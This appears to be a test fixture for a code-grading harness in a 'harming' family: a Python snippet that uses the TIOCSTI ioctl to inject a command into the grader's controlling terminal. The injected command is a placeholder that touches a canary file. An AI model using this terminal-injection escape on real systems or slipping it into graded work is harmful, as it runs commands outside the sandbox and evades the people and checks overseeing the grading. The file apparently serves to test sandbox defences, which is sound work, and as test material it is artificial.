# assignment: mnist_sgd
# family: harming
# about: types a command into the terminal that the grading was started from
# loses:
# may_lose:
# flag: maybe
# %% end
import fcntl
import os
import termios

command = b"touch '@CANARY_FILE@'\n"
for name in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
    try:
        terminal = os.open(name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        for byte in command:
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
        print("CANARY: typed into", name)
    except (OSError, AttributeError):
        pass
    finally:
        os.close(terminal)
